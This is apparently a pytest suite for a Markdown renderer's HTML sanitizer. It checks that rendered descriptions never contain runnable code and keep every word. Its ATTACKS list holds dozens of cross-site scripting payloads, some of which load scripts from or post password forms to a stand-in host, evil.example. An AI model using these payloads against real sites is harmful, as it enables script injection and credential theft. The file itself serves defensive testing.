"""Descriptions are hostile and precious: nothing of them runs, no word gets lost."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from lxml import html
from lxml.html import HtmlElement

from docgen.render.links import is_harmless, leads_out
from docgen.render.markdown import MarkdownRenderer
from docgen.render.sanitize import BLOCK_TAGS, INLINE_TAGS, clean

RENDERER = MarkdownRenderer()
CORPUS = Path(__file__).parents[4] / "shared" / "corpus" / "real"

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a <script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<b onclick=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover\n=\nalert(1)>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='data:image/png;base64,AAAA'>x</a>",
    "<a href='https://a.example' href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/png;base64,AAAA)",
    "[x](vbscript:x 'y')",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](\\\\evil.example\\share)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:text/html;base64,PHN2Zz4=)",
    '![x](y "\\" onerror=alert(1) \\"")',
    '![" onerror="alert(1)](y)',
    "![x](https://evil.example/pixel.gif)",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='https://evil.example/x 1x'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p style=position:fixed class=header id=main name=x>x</p>",
    "<h1 id=search>x</h1>",
    "<table background=https://evil.example/x><td background=x>y",
    "<video src=x onerror=alert(1)><source src=https://evil.example></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><option><script>alert(1)</script></select>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!<script>alert(1)</script>>",
    "<?xml <script>alert(1)</script> ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p><script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```x"><script>alert(1)</script>\ny\n```',
    '```json "onfocus=alert(1) autofocus x="\n{}\n```',
    "`</code><script>alert(1)</script>`",
    "# x <script>alert(1)</script> onload=alert(1)",
    '# " onfocus=alert(1) x="',
    "> [!NOTE]\n> <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    'https://a.example/"onmouseover=alert(1)//',
    "https://a.example/<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "{{ 7*7 }}{% include 'x' %}",
]
"""Written for this test."""

ATTRIBUTES = {
    "a": {"aria-label", "class", "href", "id", "rel", "title"},
    "abbr": {"title"},
    "bdo": {"dir"},
    "code": {"class"},
    "details": {"open"},
    "div": {"aria-label", "class", "role", "tabindex"},
    "img": {"alt", "height", "src", "title", "width"},
    "li": {"id"},
    "ol": {"reversed", "start"},
    "p": {"class"},
    "pre": {"aria-label", "class", "role", "tabindex"},
    "section": {"class", "role"},
    "span": {"class"},
    "sup": {"class"},
    "td": {"class", "colspan", "rowspan"},
    "th": {"class", "colspan", "rowspan", "scope"},
}
CLASS = re.compile(
    r"hl-[a-z]|callout(-[a-z]+)?|footnote(s|-ref|-back)|table-scroll|code|align-[a-z]+"
    r"|language-[a-z0-9_+#.-]+"
)


class TestNothingRuns:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_attacks_are_text(self, attack: str) -> None:
        """Neither form of drawing lets anything through that a browser would run."""
        for text in (attack, f"x {attack} y", f"- {attack}", f"<div>{attack}\n\nz"):
            expect_harmless(RENDERER.block(text, anchor_prefix="own-"))
            expect_harmless(RENDERER.inline(text))

    @pytest.mark.parametrize("attack", ATTACKS)
    def test_last_guard_stands_alone(self, attack: str) -> None:
        """Even if no tag were rewritten before, the sanitizer would refuse it."""
        for element in tree(clean(attack)).iter():
            assert element.tag in INLINE_TAGS | BLOCK_TAGS | {"section", "div"}
            assert not [name for name in element.attrib if name.startswith("on")]
            assert "style" not in element.attrib
            assert not re.match(
                r"(?i)\W*(java|vb)script|data:", element.get("href", "")
            )

    @given(
        st.lists(st.tuples(st.sampled_from(ATTACKS), st.integers(0, 60)), max_size=4),
        st.sampled_from(["", " ", "\n", "\n\n", "\n> "]),
    )
    def test_mixed_attacks_are_text(
        self, attacks: list[tuple[str, int]], joint: str
    ) -> None:
        """Cutting attacks up and joining the pieces changes nothing."""
        text = joint.join(attack[:length] for attack, length in attacks)
        expect_harmless(MarkdownRenderer().block(text, anchor_prefix="own-"))
        expect_harmless(MarkdownRenderer().inline(text))

    @pytest.mark.parametrize(
        ("url", "expected"),
        [
            ("https://a.example", True),
            ("HTTP://a.example/b?c#d", True),
            ("mailto:a@b.example", True),
            ("tel:+4912", True),
            ("b.html#c:d", True),
            ("?a:b", True),
            ("", True),
            ("//a.example", False),
            ("/\\a.example", False),
            ("https:///a", False),
            ("javascript:alert(1)", False),
            ("java\nscript:alert(1)", False),
            ("\x01javascript:alert(1)", False),
            ("data:text/html,x", False),
            ("blob:x", False),
            ("x:y", False),
            ("a b", False),
        ],
    )
    def test_harmless_targets(self, url: str, expected: bool) -> None:
        """Only known schemes and places nearby may be written into a link."""
        assert is_harmless(url) is expected

    def test_only_absolute_urls_lead_out(self) -> None:
        """A contact or license URL becomes a link only if it leads out, harmlessly."""
        assert leads_out("https://a.example")
        for url in ("", "a.html", "javascript:alert(1)", "//a.example", " x:y"):
            assert not leads_out(url)


class TestNothingIsLost:
    PIECES = """
        * ** _ ` ~~ < > </ <b> </b> <div> </div> <script> </script> <orderId> <table>
        <td> <p> <pre> <a> </a> <details> <summary> <style> <svg> & &amp; &lt [ ] ( ) !
        ![ ]( # ## - 1. \\ :: | / ' @ {{ }} $ = + [^ <!- <? <![CDATA[ [!NOTE]
    """
    SPACES = (" ", "\n", "\n\n", "    ", "\t", "\n> ", "\n- ", "\n```\n", "\n# ")

    @given(
        st.lists(
            st.one_of(
                st.integers(10, 99).map("word{}".format),
                st.sampled_from([*PIECES.split(), *SPACES]),
            ),
            max_size=40,
        )
    )
    def test_every_word_is_still_there(self, pieces: list[str]) -> None:
        """However broken the markup is, its words can be read."""
        text = "".join(pieces)
        for drawn in MarkdownRenderer().block(text), MarkdownRenderer().inline(text):
            lost = set(re.findall(r"word\d\d", text)) - set(
                re.findall(r"word\d\d", readable(drawn))
            )
            assert not lost, drawn

    @given(st.lists(st.sampled_from(["word10", "word11", *PIECES.split()]), max_size=9))
    def test_plain_text_has_the_words_too(self, pieces: list[str]) -> None:
        """What search and summaries see holds the words that the page shows."""
        text = " ".join(pieces)
        for word in {"word10", "word11"} & set(pieces):
            assert word in MarkdownRenderer().plain(text)

    @pytest.mark.corpus
    def test_real_descriptions(self) -> None:
        """The words of every public description are shown, and nothing of it runs."""
        if not CORPUS.exists():
            pytest.skip("needs the public documents beside the checkout")
        descriptions = set(corpus_descriptions())
        assert len(descriptions) > 1000
        for text in descriptions:
            drawn = RENDERER.block(text, anchor_prefix="own-")
            expect_harmless(drawn)
            expect_harmless(RENDERER.inline(text))
            shown = readable(drawn)
            assert not [word for word in words_of(text) if word not in shown]


def expect_harmless(drawn: str) -> None:
    for element in tree(drawn).iter():
        assert isinstance(element.tag, str), "a comment or an instruction"
        assert element.tag in INLINE_TAGS | BLOCK_TAGS | {"section"}
        assert set(element.attrib) <= ATTRIBUTES.get(element.tag, set()) | (
            {"id"} if re.fullmatch("h[1-6]", element.tag) else set()
        )
        assert all(map(CLASS.fullmatch, element.get("class", "").split()))
        assert element.get("id", "own-").startswith("own-")
        href = element.get("href", "#")
        assert re.match(r"https?://\w|mailto:|#(own-|\Z)", href), href
        src = element.get("src", "x")
        assert re.match(r"data:image/(png|gif);base64,|[^:/\\]+\Z", src), src


def readable(drawn: str) -> str:
    """The text, and the words of pictures, links, labels and languages of code."""
    shown = tree(drawn)
    names = ("alt", "src", "href", "title", "aria-label", "class")
    attributes = shown.xpath(" | ".join(f"//@{name}" for name in names))
    return " ".join([shown.text_content(), *map(str, attributes)])


def words_of(text: str) -> set[str]:
    """The longer words; tags, comments, targets of links and fences aside."""
    markup = r"<!--.*?-->|\]\([^)]*\)|^\s*\[.*\]:.*$|```\w+|<[^>]*>|\[!\w+\]"
    return set(re.findall(r"[^\W\d_]{4,}", re.sub(markup, " ", text)))


def corpus_descriptions() -> Iterator[str]:
    for path in sorted(CORPUS.rglob("*.y*ml")):
        try:
            documents = list(yaml.load_all(path.read_bytes(), yaml.CSafeLoader))
        except (yaml.YAMLError, ValueError):
            continue  # Some of the documents are broken on purpose.
        yield from descriptions_in(documents)


def descriptions_in(value: object) -> Iterator[str]:
    if isinstance(value, dict):
        for key, child in value.items():
            if key in ("description", "summary") and isinstance(child, str):
                yield child
            yield from descriptions_in(child)
    elif isinstance(value, list):
        for child in value:
            yield from descriptions_in(child)


def tree(drawn: str) -> HtmlElement:
    return html.fragment_fromstring(drawn, create_parent="div")
